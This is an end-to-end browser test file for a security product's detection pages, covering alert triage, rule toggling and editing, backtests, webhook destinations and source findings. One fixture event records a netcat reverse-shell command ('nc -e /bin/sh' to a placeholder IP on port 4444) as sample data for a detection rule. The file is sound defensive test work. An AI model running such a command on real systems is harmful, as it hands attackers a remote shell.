import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, test } from 'node:test';
import { createUserWithPassword } from '@tai/api';
import { createMetrics, createSecretBox } from '@tai/core';
import type { Browser } from 'playwright-core';
import pino from 'pino';
import { startDeliveryLoop } from '../apps/worker/src/detections/delivery-loop.js';
import { monitorFindingHandler } from '../apps/worker/src/detections/monitor-alerts.js';
import { setupApp, TEST_SECRETS_KEY, type TestApp } from './support/app.js';
import { evaluateQueued } from './support/detections.js';
import { axeViolations, launchBrowser, openPage, type WatchedPage } from './support/browser.js';
import { freePort } from './support/processes.js';

// The detection pages as a user drives them, in Chromium, against the real API and Postgres: events that fire
// built-in rules are evaluated by the worker's detection loop, alerts triaged, a rule switched off, a rule
// broken and tested, a backtest run, a destination added and tested through the worker's delivery loop, and
// a source's completeness findings read. Screenshots land in test/artifacts/detections-*.png.
const ADMIN = { email: 'admin@example.test', password: 'detections admin password' };
const ANALYST = { email: 'analyst@example.test', password: 'detections analyst password' };
const log = pino({ level: 'silent' });
let t: TestApp;
let base: string;
let browser: Browser;
let admin: WatchedPage;
let receiver: Server;
let receiverUrl: string;
let sourceId: string;
let deliveries: { stop: () => Promise<void> };
const received: Array<{ body: string; signature: string | undefined }> = [];
// Whether the receiver refuses what comes to /refuse (400: the delivery fails at once, to be retried by hand).
let refusing = true;
const violations: string[] = [];

const iso = (ms: number) => new Date(ms).toISOString();
const SESSION = 'a1b2c3d4-0000-4000-8000-000000000001';

/** What the worker does for committed events: evaluate until the queue is empty. */
const evaluateAll = () => evaluateQueued(t.db.repos.detectionEvaluation);

before(async () => {
  const port = await freePort();
  base = `http://127.0.0.1:${port}`;
  t = await setupApp({ publicUrl: base });
  await t.app.listen({ host: '127.0.0.1', port });
  await createUserWithPassword(t.db.repos, { tenantId: t.tenant.tenantId, email: ADMIN.email, role: 'admin', password: ADMIN.password });
  await createUserWithPassword(t.db.repos, { tenantId: t.tenant.tenantId, email: ANALYST.email, role: 'analyst', password: ANALYST.password });

  receiver = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => { body += d; });
    req.on('end', () => {
      if (req.url === '/refuse' && refusing) {
        res.writeHead(400, { 'content-type': 'text/plain' }).end('not today');
        return;
      }
      received.push({ body, signature: req.headers['x-tai-signature'] as string | undefined });
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', () => r()));
  const address = receiver.address();
  receiverUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/hook`;
  // There before the alerts, so they are sent to it and the alert page has deliveries to show.
  const existing = await t.tenant.call({ method: 'POST', url: '/v1/destinations', payload: { name: 'soc-receiver', kind: 'webhook', config: { url: receiverUrl }, minSeverity: 'low' } });
  assert.equal(existing.statusCode, 201, existing.body);
  deliveries = startDeliveryLoop({ repo: t.db.repos.destinations, secretBox: createSecretBox(TEST_SECRETS_KEY), pollMs: 100, timeoutMs: 5_000, allowPrivateNetworks: true, publicUrl: base, log, metrics: createMetrics(), now: () => new Date() });

  const source = await t.tenant.call({ method: 'POST', url: '/v1/sources', payload: { type: 'teleport_webhook', name: 'prod-cluster', config: { clusterName: 'prod.example.com' } } });
  assert.equal(source.statusCode, 201, source.body);
  sourceId = source.json().source.id;
  const now = Date.now();
  const request = '5c0f4d3e-2b1a-4c9d-8e7f-6a5b4c3d2e1f';
  const events = [
    { event: 'session.start', code: 'T2000I', uid: 'dd-1', time: iso(now - 120_000), user: 'alice', login: 'root', sid: SESSION, server_id: 'node-1', server_hostname: 'db-1', ei: 0, namespace: 'default', 'addr.remote': '192.0.2.10:50000', proto: 'ssh' },
    { event: 'session.command', code: 'T4000I', uid: 'dd-2', time: iso(now - 110_000), user: 'alice', login: 'root', sid: SESSION, server_id: 'node-1', server_hostname: 'db-1', ei: 3, program: 'nc', path: '/usr/bin/nc', argv: ['-e', '/bin/sh', '198.51.100.7', '4444'], return_code: 0, pid: 4242, ppid: 4200, cgroup_id: 9 },
    { event: 'access_request.create', code: 'T5000I', uid: 'dd-3', time: iso(now - 100_000), id: request, user: 'carrie', roles: ['dev'], state: 'PENDING', reason: 'debugging' },
    { event: 'access_request.review', code: 'T5002I', uid: 'dd-4', time: iso(now - 90_000), id: request, reviewer: 'carrie', proposed_state: 'APPROVED', state: 'APPROVED' },
  ];
  const posted = await t.app.inject({ method: 'POST', url: `/v1/ingest/teleport/${source.json().webhook.token}/events.log`, headers: { 'content-type': 'application/x-ndjson' }, payload: events.map((e) => JSON.stringify(e)).join('\n') });
  assert.equal(posted.statusCode, 200, posted.body);
  await evaluateAll();

  browser = await launchBrowser();
  admin = await openPage(browser, base);
  await signIn(admin.page, ADMIN);
});
after(async () => {
  await browser?.close();
  await deliveries?.stop();
  receiver?.close();
  await t?.close();
});

async function signIn(page: WatchedPage['page'], who: { email: string; password: string }) {
  await page.goto('/');
  await page.getByLabel('Email').fill(who.email);
  await page.getByLabel('Password').fill(who.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Search', level: 1 }).waitFor();
}

/** A full-page screenshot from the top, so the sticky top bar is drawn where it belongs. */
async function snap(watched: WatchedPage, name: string) {
  await watched.page.evaluate('window.scrollTo(0, 0)');
  await watched.shot(name);
}

/** axe on the page as it is now; serious and critical violations are collected for the last test. */
async function audit(page: WatchedPage['page'], where: string) {
  for (const v of await axeViolations(page)) violations.push(`${where}: ${v.id} (${v.impact}) ${v.help} at ${v.nodes.join(', ')}`);
}

async function until<T>(read: () => Promise<T | null | undefined | false>, what: string, ms = 15_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const value = await read();
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

test('the alerts list shows what the rules raised, filters by severity in the URL, and an admin acknowledges one', async () => {
  const { page } = admin;
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Alerts' }).click();
  await page.getByRole('heading', { name: 'Alerts', level: 1 }).waitFor();
  const table = page.getByRole('table', { name: 'Alerts, newest first' });
  for (const title of ['SSH session as root', 'nc or wget run with arguments in a session', 'Access request approved by its own requester']) {
    await table.getByRole('link', { name: title }).waitFor();
  }
  await page.getByRole('group', { name: 'Status' }).getByRole('button', { name: /Open\s*\d/ }).waitFor();
  assert.match((await page.locator('.alert-counts').textContent())!, /3 open/);
  // Deliveries to the receiver happen meanwhile; wait for them so the alert page shows each attempt.
  await until(async () => received.length >= 3, 'three alert deliveries');
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-alerts');
  await audit(page, '/alerts');

  await page.getByRole('group', { name: 'Severity' }).getByRole('button', { name: /^high/ }).click();
  await until(async () => new URL(page.url()).searchParams.get('severity') === 'high', 'severity=high in the URL');
  await table.getByRole('link', { name: 'Access request approved by its own requester' }).waitFor();
  await until(async () => (await table.locator('tbody tr').count()) === 1, 'only the high alert');

  await page.goto('/alerts');
  await table.getByRole('link', { name: 'SSH session as root' }).click();
  await page.getByRole('heading', { name: 'SSH session as root', level: 1 }).waitFor();
  await page.getByRole('heading', { name: 'Rule: SSH session as root' }).waitFor();
  await page.getByText('What was run in the session?').waitFor();
  const events = page.getByRole('table', { name: 'Events of this alert, oldest first' });
  await events.getByRole('cell', { name: 'session.start' }).waitFor();
  await page.getByRole('table', { name: 'Attempts to deliver to soc-receiver' }).getByText('delivered').waitFor();
  await page.getByRole('region', { name: 'Triage' }).getByLabel(/^Note/).fill('root on db-1: checking with alice');
  await page.getByRole('button', { name: 'Acknowledge' }).click();
  await page.getByRole('region', { name: 'Triage' }).getByText(`by ${ADMIN.email}`).waitFor();
  await page.getByRole('button', { name: 'Reopen' }).waitFor();
  assert.equal(await page.getByRole('button', { name: 'Acknowledge' }).count(), 0, 'acknowledged once');
  const notes = page.getByRole('region', { name: 'Notes' });
  await notes.getByText('root on db-1: checking with alice').waitFor();
  await notes.getByLabel('Add a note').fill('alice confirms: a planned restore');
  await notes.getByRole('button', { name: 'Add note' }).click();
  await notes.getByText('alice confirms: a planned restore').waitFor();
  await until(async () => (await notes.locator('.alert-note-meta strong').count()) === 2, 'two notes listed');
  assert.deepEqual(await notes.locator('.alert-note-meta strong').allTextContents(), [ADMIN.email, ADMIN.email], 'each note names who wrote it');
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-alert');
  await audit(page, '/alerts/:id');

  const id = new URL(page.url()).pathname.split('/').at(-1)!;
  const stored = (await t.tenant.call({ method: 'GET', url: `/v1/alerts/${id}` })).json().alert;
  assert.equal(stored.status, 'acknowledged');
  assert.equal(stored.acknowledgedBy, ADMIN.email);

  // An event of the alert opens the existing event page.
  await events.getByRole('link').first().click();
  await until(async () => new URL(page.url()).pathname.startsWith('/events/'), 'the event page');
  await page.getByRole('link', { name: /^Session / }).first().waitFor();
});

test('rules: a switch turns a rule off at once and it stays off after a reload', async () => {
  const { page } = admin;
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Rules' }).click();
  await page.getByRole('heading', { name: 'Rules', level: 1 }).waitFor();
  const lock = page.getByRole('switch', { name: 'Enabled: Lock created' });
  assert.equal(await lock.isChecked(), true);
  await lock.focus();
  await page.keyboard.press('Space');
  await until(async () => (await t.tenant.call({ method: 'GET', url: '/v1/rules/teleport-lock-created' })).json().rule.enabled === false, 'the rule disabled in the API');
  await page.reload();
  await page.getByRole('heading', { name: 'Rules', level: 1 }).waitFor();
  assert.equal(await page.getByRole('switch', { name: 'Enabled: Lock created' }).isChecked(), false);

  await page.getByLabel('Filter').fill('T1078');
  await until(async () => new URL(page.url()).searchParams.get('q') === 'T1078', 'the filter in the URL');
  await page.getByRole('link', { name: 'SSH session as root' }).waitFor();
  assert.equal(await page.getByRole('link', { name: 'Lock created', exact: true }).count(), 0, 'filtered out');
  await page.getByLabel('Filter').fill('');
  await page.getByRole('link', { name: 'Lock created', exact: true }).waitFor();
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-rules');
  await audit(page, '/rules');
});

test('the rule editor: a broken test case fails Test by name, a backtest over the last day shows the firing, versions list', async () => {
  const { page } = admin;
  await page.goto('/rules/teleport-root-login');
  const yaml = page.getByRole('textbox', { name: 'Rule YAML' });
  await yaml.waitFor();
  const original = await yaml.inputValue();
  assert.match(original, /^id: teleport-root-login$/m);

  await page.getByRole('button', { name: 'Test', exact: true }).click();
  await page.getByRole('status').filter({ hasText: 'the rule is valid and every test case behaves as it says' }).waitFor();

  // The mustMatch event logs in as alice: the rule cannot match it.
  const broken = original.replace(/(mustMatch:\n\s+- \{[^\n]*?)login: root/, '$1login: alice');
  assert.notEqual(broken, original);
  await yaml.fill(broken);
  await page.getByRole('button', { name: 'Test', exact: true }).click();
  const failing = page.getByRole('alert').filter({ hasText: 'test case' });
  await failing.getByText('mustMatch.0').waitFor();

  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('alert').filter({ hasText: 'Not saved' }).getByText('mustMatch.0').waitFor();
  assert.equal((await t.tenant.call({ method: 'GET', url: '/v1/rules/teleport-root-login' })).json().rule.version, 1, 'a rule whose tests fail is not saved');

  await page.getByRole('group', { name: 'Time range' }).getByRole('button', { name: '24 h' }).click();
  await page.getByRole('button', { name: 'Run backtest' }).click();
  const firings = page.getByRole('table', { name: 'Backtest firings' });
  await firings.getByText('alice').waitFor();
  assert.match((await page.locator('.backtest-summary').textContent())!, /1 event evaluated, 1 firing, 1 alert/);
  await page.getByRole('heading', { name: 'Versions' }).waitFor();
  await page.getByRole('button', { name: 'View version 1' }).click();
  await page.locator('.version-body pre').waitFor();
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-rule-editor');
  await audit(page, '/rules/:id');

  // A real edit saves as version 2.
  await yaml.fill(original.replace('severity: medium', 'severity: high'));
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('status').filter({ hasText: 'Saved as version 2.' }).waitFor();
  assert.equal((await t.tenant.call({ method: 'GET', url: '/v1/rules/teleport-root-login' })).json().rule.severity, 'high');

  // Someone else saves version 3 meanwhile: this page's save, made from version 2, is refused and says so.
  const theirs = await t.tenant.call({ method: 'PUT', url: '/v1/rules/teleport-root-login', headers: { 'content-type': 'application/yaml', 'if-match': '"2"' }, payload: original.replace('severity: medium', 'severity: critical') });
  assert.equal(theirs.statusCode, 200, theirs.body);
  await yaml.fill(original.replace('severity: medium', 'severity: low'));
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('alert').filter({ hasText: 'Changed by someone else: the rule is at version 3' }).waitFor();
  await page.getByRole('button', { name: 'Reload the rule' }).click();
  await page.getByText('As saved (version 3)').waitFor();
  assert.match(await yaml.inputValue(), /^severity: critical$/m);

  // A new rule is created under the id its YAML names.
  await page.goto('/rules/new');
  const draft = page.getByRole('textbox', { name: 'Rule YAML' });
  await draft.fill((await draft.inputValue()).replace('id: my-new-rule', 'id: root-on-db-nodes').replace('title: What the rule finds, in a few words', 'title: Root on a database node'));
  await page.getByRole('button', { name: 'Create rule' }).click();
  await until(async () => new URL(page.url()).pathname === '/rules/root-on-db-nodes', 'the new rule\'s page');
  await page.getByRole('heading', { name: 'Root on a database node', level: 1 }).waitFor();
  assert.equal((await t.tenant.call({ method: 'GET', url: '/v1/rules/root-on-db-nodes' })).json().rule.version, 1);
});

test('destinations: an admin adds a webhook, sees its signing secret once, sends a test and sees it delivered', async () => {
  const { page } = admin;
  await page.goto('/settings/destinations');
  await page.getByRole('table', { name: 'Alert destinations' }).getByRole('rowheader', { name: 'soc-receiver' }).waitFor();
  await page.getByRole('button', { name: 'Add destination' }).click();
  // Each kind asks for its own settings; secrets are password inputs.
  await page.getByRole('radio', { name: 'E-mail' }).check();
  assert.equal(await page.getByLabel('Password', { exact: true }).getAttribute('type'), 'password');
  await page.getByLabel('SMTP host').waitFor();
  await snap(admin, 'detections-destination-form');
  await page.getByRole('radio', { name: 'Webhook' }).check();
  await page.getByLabel('Name').fill('second-receiver');
  await page.getByLabel('URL').fill(receiverUrl.replace('/hook', '/second'));
  await page.getByLabel('Minimum severity').selectOption('medium');
  await page.getByRole('button', { name: 'Add destination' }).click();
  const secret = page.getByRole('group', { name: 'Signing secret' });
  assert.match((await secret.locator('.secret-once-value').textContent())!, /^whsec_/);
  const row = page.getByRole('row').filter({ has: page.getByRole('rowheader', { name: 'second-receiver' }) });
  await row.waitFor();
  const before = received.length;
  await page.getByRole('button', { name: 'Send test to second-receiver' }).click();
  await page.getByRole('status').filter({ hasText: 'Test notice to second-receiver' }).getByText('delivered').waitFor({ timeout: 20_000 });
  await page.getByRole('table', { name: 'Attempts of the test notice to second-receiver' }).getByRole('cell', { name: '200' }).waitFor();
  assert.ok(received.length > before, 'the receiver got it');
  assert.ok(received.at(-1)!.signature, 'signed');
  await row.getByText('delivered').waitFor({ timeout: 10_000 });
  await page.getByRole('button', { name: 'Recent deliveries to soc-receiver' }).click();
  await page.getByRole('table', { name: 'Recent deliveries' }).getByRole('link', { name: 'alert' }).first().waitFor();
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-destinations');
  await audit(page, '/settings/destinations');

  const listed = (await t.tenant.call({ method: 'GET', url: '/v1/destinations' })).json().data as Array<{ name: string; minSeverity: string; config: { url: string } }>;
  const added = listed.find((d) => d.name === 'second-receiver')!;
  assert.equal(added.minSeverity, 'medium');
  assert.ok(!JSON.stringify(listed).includes('whsec_'), 'the secret is not listed');

  await page.getByRole('button', { name: 'I have copied it, hide the secret' }).click();
  assert.equal(await page.getByRole('group', { name: 'Signing secret' }).count(), 0);
  await page.getByRole('button', { name: 'Delete second-receiver' }).click();
  await page.getByRole('dialog', { name: 'Delete second-receiver?' }).getByRole('button', { name: 'Delete destination' }).click();
  await until(async () => (await page.getByRole('rowheader', { name: 'second-receiver' }).count()) === 0, 'the row gone');

  // A destination that refuses the test notice: its failed delivery is retried from its deliveries once it accepts.
  const refuser = await t.tenant.call({ method: 'POST', url: '/v1/destinations', payload: { name: 'refusing-receiver', kind: 'webhook', config: { url: receiverUrl.replace('/hook', '/refuse') } } });
  assert.equal(refuser.statusCode, 201, refuser.body);
  const refused = await t.tenant.call({ method: 'POST', url: `/v1/destinations/${refuser.json().destination.id}/test` });
  const refusedId = refused.json().delivery.id as string;
  await until(async () => (await t.tenant.call({ method: 'GET', url: `/v1/deliveries/${refusedId}` })).json().delivery.status === 'failed', 'the refused test notice failed');
  await page.reload();
  await page.getByRole('button', { name: 'Recent deliveries to refusing-receiver' }).click();
  const refusedRows = page.getByRole('table', { name: 'Recent deliveries' });
  await refusedRows.getByText('failed', { exact: true }).waitFor();
  refusing = false;
  await refusedRows.getByRole('button', { name: /^Retry/ }).click();
  await until(async () => (await t.tenant.call({ method: 'GET', url: `/v1/deliveries/${refusedId}` })).json().delivery.status === 'delivered', 'the retried delivery delivered');
  await refusedRows.getByText('delivered', { exact: true }).waitFor();
  await until(async () => (await page.getByRole('button', { name: /^Retry/ }).count()) === 0, 'no failed delivery left to retry');
  const refuserRow = page.getByRole('row').filter({ has: page.getByRole('rowheader', { name: 'refusing-receiver' }) });
  await refuserRow.getByText('delivered', { exact: true }).waitFor({ timeout: 10_000 });
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-delivery-retried');
});

test('the source page lists its open completeness findings in words, and a clean source says it has none', async () => {
  const { page } = admin;
  await t.db.repos.sourceFindings.apply({
    tenantId: t.tenant.tenantId, now: new Date(), eventTypes: [], resolve: [],
    open: [
      { sourceId, kind: 'source.silent', subject: '', details: { lastEventAt: iso(Date.now() - 3 * 3600_000), thresholdSeconds: 3600 } },
      { sourceId, kind: 'session.incomplete', subject: SESSION, details: { missing: 2, missingRanges: [[1, 2]], maxIndex: 3, eventCount: 2 } },
      { sourceId, kind: 'event_type.unknown', subject: 'widget.frobnicate', details: { firstSeenAt: iso(Date.now() - 600_000) } },
    ],
  });
  await page.goto(`/sources/${sourceId}`);
  const block = page.locator('section[aria-labelledby="findings-title"]');
  await block.getByText('Source silent since').waitFor();
  await block.getByText('Session a1b2c3d4… missing events 1–2').waitFor();
  await block.getByText('Unknown event type widget.frobnicate, first seen').waitFor();
  await block.getByText('3 open').waitFor();
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-source-findings');
  await audit(page, '/sources/:id');

  const clean = await t.tenant.call({ method: 'POST', url: '/v1/sources', payload: { type: 'teleport_webhook', name: 'staging' } });
  await page.goto(`/sources/${clean.json().source.id}`);
  await page.locator('section[aria-labelledby="findings-title"]').getByText('no open findings', { exact: true }).waitFor();

  // The worker hands the silent-source finding on as a monitor alert: it shows the finding, not events.
  const handOn = monitorFindingHandler({ repo: t.db.repos.detectionEvaluation, log, metrics: createMetrics(), now: () => new Date() });
  await handOn({ tenantId: t.tenant.tenantId, sourceId, kind: 'source.silent', subject: '', state: 'open', details: { lastEventAt: iso(Date.now() - 3 * 3600_000), thresholdSeconds: 3600 }, at: new Date() });
  await page.goto('/alerts?kind=monitor');
  await page.getByRole('link', { name: 'Source went silent' }).click();
  await page.getByRole('heading', { name: 'What the monitor found' }).waitFor();
  await page.getByText('Source silent since').waitFor();
  await page.getByRole('link', { name: 'Open the source' }).waitFor();
  assert.equal(await page.getByRole('heading', { name: /^Events/ }).count(), 0, 'no events table for a monitor');
  await page.waitForLoadState('networkidle');
  await snap(admin, 'detections-monitor-alert');
  await audit(page, '/alerts/:id (monitor)');
});

test('the alerts list refreshes itself every 15 s while the tab is visible', async () => {
  const watcher = await openPage(browser, base);
  await watcher.page.clock.install();
  await signIn(watcher.page, ADMIN);
  const { page } = watcher;
  await page.goto('/alerts?kind=monitor');
  const table = page.getByRole('table', { name: 'Alerts, newest first' });
  await table.getByRole('link', { name: 'Source went silent' }).waitFor();
  const handOn = monitorFindingHandler({ repo: t.db.repos.detectionEvaluation, log, metrics: createMetrics(), now: () => new Date() });
  await handOn({ tenantId: t.tenant.tenantId, sourceId, kind: 'rejects.spike', subject: '', state: 'open', details: { rejects: 40, events: 10, baselinePerHour: 0, ratio: 40 }, at: new Date() });
  await page.clock.fastForward(5_000);
  assert.equal(await table.locator('tbody tr').count(), 1, 'not before the refresh is due');
  await page.clock.fastForward(10_500);
  await until(async () => (await table.locator('tbody tr').count()) === 2, 'the new alert listed without a reload');
  assert.deepEqual(watcher.problems, [], 'no console errors, exceptions or 5xx');
  await watcher.context.close();
});

test('an analyst reads alerts and rules but sees the admin actions disabled, with the reason', async () => {
  const analyst = await openPage(browser, base);
  await signIn(analyst.page, ANALYST);
  const { page } = analyst;
  await page.goto('/alerts?status=open');
  await page.getByRole('link', { name: 'Access request approved by its own requester' }).click();
  await page.getByRole('heading', { name: 'Access request approved by its own requester', level: 1 }).waitFor();
  const resolve = page.getByRole('button', { name: 'Resolve' });
  assert.equal(await resolve.isDisabled(), true);
  assert.match((await resolve.getAttribute('aria-describedby'))!, /status-reason/);
  await page.getByText('Only admins can acknowledge, resolve or reopen alerts.').waitFor();
  await audit(page, '/alerts/:id (analyst)');

  await page.goto('/rules');
  await page.getByRole('heading', { name: 'Rules', level: 1 }).waitFor();
  assert.equal(await page.getByRole('switch', { name: 'Enabled: SSH session as root' }).isDisabled(), true);
  assert.equal(await page.getByRole('link', { name: 'New rule' }).count(), 0);
  await page.goto('/settings/destinations');
  await page.getByText('Only admins can add, change, test or delete destinations.').waitFor();
  assert.equal(await page.getByRole('button', { name: 'Add destination' }).count(), 0);
  assert.deepEqual(analyst.problems, [], 'no console errors, exceptions or 5xx');
  await analyst.context.close();
});

test('every detection page ran clean: no serious axe violations, no console errors', async () => {
  const dark = await openPage(browser, base, { colorScheme: 'dark' });
  await signIn(dark.page, ADMIN);
  for (const [name, path] of [['alerts', '/alerts'], ['rules', '/rules/new'], ['destinations', '/settings/destinations']] as const) {
    await dark.page.goto(path);
    await dark.page.waitForLoadState('networkidle');
    await snap(dark, `detections-${name}-dark`);
    await audit(dark.page, `${path} (dark)`);
  }
  await dark.context.close();
  assert.deepEqual(violations, []);
  assert.deepEqual([...admin.problems, ...dark.problems], [], 'no console errors, exceptions or 5xx');
});
